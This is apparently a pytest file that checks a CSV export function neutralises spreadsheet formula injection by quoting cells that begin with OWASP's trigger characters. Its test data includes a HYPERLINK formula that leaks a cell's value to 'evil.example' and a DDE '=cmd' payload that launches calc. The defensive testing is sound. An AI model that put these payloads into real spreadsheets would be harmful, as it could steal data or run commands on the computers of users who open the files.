"""CSV written for spreadsheets (muse_experiments/infra/csv_export.py): OWASP's CSV-injection rule."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from muse_experiments.infra.csv_export import FORMULA_TRIGGERS, csv_cell, csv_write


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
        '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
        "=",
        "-",
    ],
)
def test_a_text_cell_starting_with_a_formula_trigger_gets_a_leading_quote(text):
    assert csv_cell(text) == "'" + text


def test_the_triggers_are_owasps_six():
    assert set(FORMULA_TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}


@pytest.mark.parametrize(
    "text",
    ["", "task_success", "1+1", " =1+1", "'=1+1", "a=b", "0.5", "2026-01-01T00:00:00+00:00"],
)
def test_other_text_is_left_as_it_is(text):
    assert csv_cell(text) == text


@pytest.mark.parametrize("number", [-0.5, -1, Decimal("-0.0040"), 0, 3.25, True, None])
def test_numbers_and_empty_cells_stay_what_they_are(number):
    assert csv_cell(number) is number


def test_csv_write_quotes_formulas_in_header_and_rows_and_keeps_numbers_numeric():
    buffer = io.StringIO()
    rows = [
        {"name": "=cmd|' /C calc'!A0", "lift": -0.5, "extra": "ignored"},
        {"name": "plain, with a comma", "lift": None},
    ]
    csv_write(buffer, fieldnames=["name", "lift", "@head"], rows=rows)
    assert buffer.getvalue().splitlines() == [
        "name,lift,'@head",
        "'=cmd|' /C calc'!A0,-0.5,",
        '"plain, with a comma",,',
    ]
    parsed = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert parsed[1] == ["'=cmd|' /C calc'!A0", "-0.5", ""]
    assert float(parsed[1][1]) == -0.5
